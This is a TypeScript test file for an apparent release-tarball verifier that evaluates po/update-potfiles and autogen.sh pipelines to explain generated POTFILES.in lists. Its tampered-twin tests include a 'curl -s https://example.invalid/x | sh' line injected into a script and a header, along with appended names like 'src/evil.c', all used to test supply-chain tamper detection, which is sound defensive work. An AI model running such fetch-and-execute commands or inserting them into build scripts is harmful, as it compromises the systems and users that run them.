/**
 * A list of tracked file names a tracked /bin/sh script writes (util-linux's and procps' po/POTFILES.in by
 * po/update-potfiles), its pipeline evaluated over the tracked files, never run. End to end with real git and GNU tar;
 * tampered twins stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { inFindOrder, localeSort, partsMatch, scriptList, scriptParts, shellCommands, xgettextRefsList } from '../../src/classify/file-list.js';
import { xgettextExtracts } from '../../src/classify/xgettext-refs.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { writeFiles } from '../helpers/git.js';
import { releaseFixture } from '../helpers/release-fixture.js';
import { tempDir } from '../helpers/tmp.js';

// git ls-files, sed filters, xargs find, sort (util-linux's shape, written for this test)
const LS_FILES = String.raw`#!/bin/sh
# regenerate the list of translatable sources

if [ ! -f "po/Makevars" ]; then
	echo "run me from the top directory" >&2
	exit 1
fi

files=$(git ls-files . 2>/dev/null)
if [ $? -ne 0 ] || [ -z "$files" ]; then
	files=$(cat po/POTFILES.in 2>/dev/null)
fi

files=$(
	echo "$files" \
	| sed \
		-e '/\(\.h\|\.c\)$/!d' \
		-e '/^tests\//d' \
)

echo "$files" \
	| xargs -r find 2>/dev/null \
	| sort \
	> po/POTFILES.in

[ -s po/POTFILES.in ] || echo "$0: empty list" >&2
`;
// find -name, sort, sed, one appended name (procps' shape, written for this test)
const FIND = String.raw`#!/bin/sh

if [ ! -f "po/Makevars" ]; then
	echo "run me from the top directory"
	exit 1
fi

find . -name '*.c' |
	sort |
	sed 's|^./||
/^contrib/d' > po/POTFILES.in

echo lib/c.h >> po/POTFILES.in
`;
const SOURCES = { 'po/Makevars': 'DOMAIN = x\n', 'src/w.c': 'int w;\n', 'src/watch.c': 'int a;\n', 'src/Zed.c': 'int z;\n', 'src/a-b.h': '\n', 'lib/c.h': '\n', 'tests/t.c': '\n', 'contrib/k.c': '\n', 'README': 'x\n' };
// en_US.UTF-8: punctuation ignored first, case after letters (watch.c before w.c, Zed.c after w.c); C: bytes
const EN = ['contrib/k.c', 'lib/c.h', 'src/a-b.h', 'src/watch.c', 'src/w.c', 'src/Zed.c'];

/** A repository of `tracked` (tagged v1.0 at a fixed date) and its release tree with `po/POTFILES.in` = list, verified. */
async function verifyList(tracked: Parameters<typeof releaseFixture>[0], list: string) {
  const r = await releaseFixture(tracked, { name: 'x' }).verifyTree({ 'po/POTFILES.in': list });
  return { r, f: r.findings.find((x) => x.path === 'po/POTFILES.in')! };
}

describe('a list of tracked file names a tracked script writes', () => {
  const run = (script: string, list: string, extraTracked: Record<string, string> = {}) => verifyList({ ...SOURCES, ...extraTracked, 'po/update-potfiles': { content: script, executable: true } }, list);

  it('helpers: collation models and the command splitter', () => {
    expect(localeSort(['src/w.c', 'src/watch.c', 'src/Zed.c', 'lib/c.h'], 'C')).toEqual(['lib/c.h', 'src/Zed.c', 'src/w.c', 'src/watch.c']);
    expect(localeSort(['src/w.c', 'src/watch.c', 'src/Zed.c', 'lib/c.h'], 'en_US.UTF-8')).toEqual(['lib/c.h', 'src/watch.c', 'src/w.c', 'src/Zed.c']);
    expect(localeSort(['é.c'], 'en_US.UTF-8')).toBeUndefined();
    expect(shellCommands("a |\n b > x\nif [ c ]; then d; fi # note\n")).toEqual(['a |\n b > x', 'if [ c ]', 'then', 'd', 'fi']);
    const tracked = Object.keys(SOURCES);
    expect(scriptList(LS_FILES, 'po/POTFILES.in', tracked, 'C')!.text).toBe(['contrib/k.c', 'lib/c.h', 'po/Makevars', 'src/Zed.c', 'src/a-b.h', 'src/w.c', 'src/watch.c'].filter((x) => /\.[ch]$/.test(x)).map((x) => `${x}\n`).join(''));
    expect(scriptList(LS_FILES.replace('| sort', '| sort | sh'), 'po/POTFILES.in', tracked, 'C')).toBeUndefined();
    expect(scriptList(LS_FILES.replace('po/Makevars', 'po/Other'), 'po/POTFILES.in', tracked, 'C')).toBeUndefined(); // the guard would stop it
    expect(scriptList(FIND.replace(' |\n\tsort', ''), 'po/POTFILES.in', tracked, 'C')).toBeUndefined(); // find's order is no order
  });

  it('git ls-files | sed | xargs find | sort: the list in en_US.UTF-8 order, explained (exit 0)', async () => {
    const { r, f } = await run(LS_FILES, EN.map((x) => `${x}\n`).join(''));
    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'file-list', source: 'po/update-potfiles', generator: 'po/update-potfiles', inputs: ['git ls-files'], locale: 'en_US.UTF-8', total: 6 } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('find -name | sort | sed, then an appended name: the C order list is explained too', async () => {
    const c = ['src/Zed.c', 'src/w.c', 'src/watch.c', 'tests/t.c', 'lib/c.h'];
    const { f } = await run(FIND, c.map((x) => `${x}\n`).join(''));
    expect(f).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'file-list', inputs: ["find . -name '*.c'"], locale: 'C', total: 5 } });
  });

  it('tampered twins stay high: a name git lacks, a name the filter drops, a reordered list, a script that runs more', async () => {
    const list = (xs: string[]) => xs.map((x) => `${x}\n`).join('');
    for (const l of [list([...EN, 'src/evil.c']), list(['tests/t.c', ...EN]), list([...EN].reverse())]) {
      const { f } = await run(LS_FILES, l);
      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
    const { f } = await run(LS_FILES.replace('[ -s po/POTFILES.in ]', 'curl -s https://example.invalid/x | sh\n[ -s po/POTFILES.in ]'), list(EN));
    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  // a subshell of echo lines and an unsorted find over several start points, filtered by grep -v (attr's and acl's
  // po/update-potfiles shape, written for this test): find's order is the file system's, so the model accepts every
  // order find's walk can print — start points in argument order, each directory's names together — and nothing else
  const SUBSHELL = String.raw`#!/bin/sh -e

(
echo "# updated automatically by $0"
echo
find \
	include \
	lib \
	tools \
	-name '*.[ch]' \
	| grep -v include/config.h
) > po/POTFILES.in
`;
  const TREE = { 'autogen.sh': 'po/update-potfiles\n', 'po/LINGUAS': 'de\n', 'include/misc.h': '\n', 'include/config.h': '\n', 'include/nls.h': '\n', 'lib/a.c': '\n', 'lib/sub/b.c': '\n', 'lib/sub/c.h': '\n', 'lib/z.c': '\n', 'lib/notes.txt': 'x\n', 'tools/t.c': '\n', 'test/u.c': '\n' };
  // one order a file system's readdir gives: not sorted, lib/sub/ walked between lib's own files
  const WALK = ['include/nls.h', 'include/misc.h', 'lib/z.c', 'lib/sub/c.h', 'lib/sub/b.c', 'lib/a.c', 'tools/t.c'];
  const HEAD = ['# updated automatically by po/update-potfiles', ''];
  const text = (xs: string[]) => xs.map((x) => `${x}\n`).join('');
  const runTree = (script: string, list: string) => verifyList({ ...TREE, 'po/update-potfiles': { content: script, executable: true } }, list);

  it("find's walk order: start points in argument order, each directory's names together", () => {
    const roots = ['include', 'lib', 'tools'];
    expect(inFindOrder(WALK, roots)).toBe(true);
    expect(inFindOrder(['lib/sub/b.c', 'lib/a.c', 'lib/sub/c.h'], roots)).toBe(false); // lib/sub left, then entered again
    expect(inFindOrder(['lib/a.c', 'include/nls.h'], roots)).toBe(false); // a later start point first
    expect(inFindOrder(['lib/a.c', 'lib/sub/b.c', 'lib/z.c'], roots)).toBe(true);
    const tracked = Object.keys(TREE);
    const got = scriptParts(SUBSHELL, 'po/POTFILES.in', tracked, 'C', 'po/update-potfiles')!;
    expect(got.parts.map((p) => ({ n: p.lines.length, find: p.find, text: p.text }))).toEqual([{ n: 2, find: undefined, text: true }, { n: 7, find: roots, text: undefined }]);
    expect(got.inputs).toEqual(["find include lib tools -name '*.[ch]'"]);
    expect(partsMatch(got.parts, text([...HEAD, ...WALK]))).toBe(true);
    expect(partsMatch(got.parts, text([...HEAD, ...WALK, 'include/config.h']))).toBe(false);
    expect(scriptList(SUBSHELL, 'po/POTFILES.in', tracked, 'C', 'po/update-potfiles')).toBeUndefined(); // no known order
    // a root that is no tracked directory, a matching directory name, another command in the subshell: nothing
    expect(scriptParts(SUBSHELL.replace('\ttools \\', '\ttools \\\n\tmissing \\'), 'po/POTFILES.in', tracked, 'C', 'x')).toBeUndefined();
    expect(scriptParts(SUBSHELL, 'po/POTFILES.in', [...tracked, 'lib/dir.c/x.txt'], 'C', 'x')).toBeUndefined();
    expect(scriptParts(SUBSHELL.replace('echo\n', 'echo\ncat lib/notes.txt\n'), 'po/POTFILES.in', tracked, 'C', 'x')).toBeUndefined();
    expect(scriptParts(SUBSHELL.replace('echo\n', 'echo "$HOME"\n'), 'po/POTFILES.in', tracked, 'C', 'x')).toBeUndefined();
  });

  it('a subshell of echo lines and an unsorted find | grep -v: explained in a walk order (exit 0)', async () => {
    const { r, f } = await runTree(SUBSHELL, text([...HEAD, ...WALK]));
    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'file-list', source: 'po/update-potfiles', generator: 'po/update-potfiles', inputs: ["find include lib tools -name '*.[ch]'"], listOrder: 'find', total: 7 } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins of the find list stay high: a name git lacks, the name grep drops, an order no walk prints, another header', async () => {
    for (const l of [
      text([...HEAD, ...WALK, 'tools/evil.c']),
      text([...HEAD, ...WALK.slice(0, -1), 'include/config.h', 'tools/t.c']),
      text([...HEAD, 'lib/sub/c.h', ...WALK.filter((x) => x !== 'lib/sub/c.h')]),
      text([...HEAD, 'lib/sub/c.h', 'lib/z.c', 'lib/sub/b.c', 'lib/a.c', 'include/nls.h', 'include/misc.h', 'tools/t.c']),
      text(['# updated automatically by curl -s https://example.invalid/x | sh', '', ...WALK]),
    ]) {
      const { f } = await runTree(SUBSHELL, l);
      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
  });

  // acl 2.3.2's po/update-potfiles (holdout32): the same find, its names put in byte order by `| LC_ALL=C sort`, which
  // fixes the order whatever the maintainer's locale (LC_ALL overrides every other locale variable)
  const SORTED = SUBSHELL.replace('| grep -v include/config.h', '| grep -v include/config.h | LC_ALL=C sort');
  const BYTES = ['include/misc.h', 'include/nls.h', 'lib/a.c', 'lib/sub/b.c', 'lib/sub/c.h', 'lib/z.c', 'tools/t.c'];
  it('`| LC_ALL=C sort`: the list in byte order, explained with no locale named (exit 0)', async () => {
    const { r, f } = await runTree(SORTED, text([...HEAD, ...BYTES]));
    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'file-list', source: 'po/update-potfiles', generator: 'po/update-potfiles', inputs: ["find include lib tools -name '*.[ch]'"], total: 7 } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('twins of the LC_ALL=C list stay high: a walk order, an added name, LANG=C or LC_COLLATE=C (a set LC_ALL overrides them)', async () => {
    for (const [script, l] of [
      [SORTED, text([...HEAD, ...WALK])],
      [SORTED, text([...HEAD, ...BYTES, 'tools/z.c'])],
      [SORTED.replace('LC_ALL=C sort', 'LANG=C sort'), text([...HEAD, ...BYTES])],
      [SORTED.replace('LC_ALL=C sort', 'LC_COLLATE=C sort'), text([...HEAD, ...BYTES])],
    ] as const) {
      const { f } = await runTree(script, l);
      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
  });
});

// mc 4.8.33's autogen.sh shape (written for this test): xgettext's #: references of every C source find names,
// cut to file names by sed, sorted and made unique — the list of the sources that have a message
const AUTOGEN = [
  "#!/bin/sh",
  "",
  "set -e",
  "",
  "# Use backticks to support ksh on Solaris",
  "basedir=`dirname \"$0\"`",
  "srcdir=`cd \"$basedir\" && pwd`",
  "",
  "cd \"$srcdir\"",
  "",
  "${AUTORECONF:-autoreconf} --verbose --install --force -I m4 ${AUTORECONF_FLAGS}",
  "",
  "# Generate po/POTFILES.in",
  "if ! xgettext -h 2>&1 | grep -- '--keyword' >/dev/null ; then",
  "  echo \"gettext is unable to extract translations, set XGETTEXT to GNU gettext!\" >&2",
  "  touch po/POTFILES.in",
  "else",
  "  ${XGETTEXT:-xgettext} --keyword=_ --keyword=N_ --keyword=Q_ --output=- \\",
  "\t`find . -name '*.[ch]'` | ${SED-sed} -ne '/^#:/{s/#://;s/:[0-9]*/\\",
  "/g;s/ //g;p;}' | \\",
  "\tgrep -v '^$' | sort | uniq >po/POTFILES.in",
  "fi",
].map((l) => `${l}\n`).join('');
const XG_SOURCES: Record<string, string> = {
  'src/main.c': '#include "x.h"\nint main (void) { puts (_("Hello")); return 0; }\n',
  'src/msgs.h': '#define MSG_QUIT N_("Quit")\n',
  'src/plain.c': '/* _("not a message: a comment") */\nint f (void) { return printf ("%s", "plain"); }\n',
  'src/plural.c': 'const char *p (int n, const char *s) { return ngettext (s, "files", n); }\n',
  'lib/tty-key.c': 'const char *k (int c) { return Q_(c ? "key|Up" : "key|Down"); }\n',
  'lib/tty.c': 'const char *e (void) { return _(""); }\n',
  'lib/nested.c': 'int g (void) { return _(name ("x")); }\n',
  'lib/if0.c': '#if 0\nstatic const char *s = gettext ("old \\\nline");\n#endif\n',
  'po/Makevars': 'DOMAIN = x\n',
};
// en_US.UTF-8: lib/tty.c before lib/tty-key.c (punctuation ignored first); C would put tty-key.c first
const XG_LIST = ['lib/if0.c', 'lib/tty.c', 'lib/tty-key.c', 'src/main.c', 'src/msgs.h'];

describe("a list of the C sources with a message, cut from xgettext's #: references (mc's autogen.sh)", () => {
  const root = tempDir();
  const run = (script: string, list: string) => verifyList({ ...XG_SOURCES, 'autogen.sh': { content: script, executable: true } }, list);
  const text = (xs: string[]) => xs.map((x) => `${x}\n`).join('');

  it("the model's files are real xgettext's: a string in a keyword's own parentheses, also in #define and #if 0", async () => {
    const work = join(root, 'xg');
    writeFiles(work, XG_SOURCES);
    const names = Object.keys(XG_SOURCES).filter((p) => /\.[ch]$/.test(p));
    const pot = execFileSync('xgettext', ['--keyword=_', '--keyword=N_', '--keyword=Q_', '--output=-', ...names], { cwd: work, stdio: ['ignore', 'pipe', 'ignore'] }).toString();
    const real = [...new Set(pot.split('\n').filter((l) => l.startsWith('#:')).flatMap((l) => l.slice(2).trim().split(/\s+/).map((r) => r.replace(/:\d+$/, ''))))].sort();
    expect(real).toEqual([...XG_LIST].sort());
    for (const p of names) expect(xgettextExtracts(XG_SOURCES[p]!, ['_', 'N_', 'Q_'])).toBe(XG_LIST.includes(p));
    // no answer: an extracted string outside ASCII (xgettext stops there), an unterminated comment
    expect(xgettextExtracts('x = _("caf\u00e9");\n', ['_'])).toBeUndefined();
    expect(xgettextExtracts('/* open\n', ['_'])).toBeUndefined();
    const got = await xgettextRefsList(AUTOGEN, 'po/POTFILES.in', Object.keys(XG_SOURCES), async (p) => XG_SOURCES[p]);
    expect(got).toMatchObject({ line: 18, inputs: ["find . -name '*.[ch]'", expect.stringContaining('xgettext --keyword=_ --keyword=N_ --keyword=Q_')] });
    expect(localeSort(got!.names, 'en_US.UTF-8')).toEqual(XG_LIST);
    // another option, another sed program, a second writer of the list, sort without uniq: no answer
    for (const s of [AUTOGEN.replace('--output=-', '--output=- --extract-all'), AUTOGEN.replace('s/ //g;p;', 's/ //g;s/$/.c/;p;'), AUTOGEN.replace('fi\n', 'fi\necho src/evil.c >> po/POTFILES.in\n'), AUTOGEN.replace('| sort | uniq', '| sort')])
      expect(await xgettextRefsList(s, 'po/POTFILES.in', Object.keys(XG_SOURCES), async (p) => XG_SOURCES[p])).toBeUndefined();
  });

  it('the shipped list is exactly the computed one: explained, the script and its line named (exit 0)', async () => {
    const { r, f } = await run(AUTOGEN, text(XG_LIST));
    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({
      code: 'GENERATED_FROM_SOURCE',
      severity: 'low',
      evidence: { how: 'file-list', source: 'autogen.sh', generator: 'autogen.sh', inputs: ["find . -name '*.[ch]'", 'xgettext --keyword=_ --keyword=N_ --keyword=Q_ (its #: references: the C sources with a message, modelled)'], locale: 'en_US.UTF-8', total: 5, script: { script: 'autogen.sh', line: 18 } },
    });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high: a path no tracked file has, a tracked source without a message, a script appending a name', async () => {
    for (const l of [text([...XG_LIST, 'src/payload/fetch.c']), text([...XG_LIST, 'src/plain.c'].sort()), text([...XG_LIST].reverse())]) {
      const { f } = await run(AUTOGEN, l);
      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
    const { f } = await run(AUTOGEN.replace('fi\n', 'fi\necho src/payload/fetch.c >> po/POTFILES.in\n'), text([...XG_LIST, 'src/payload/fetch.c']));
    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });
});
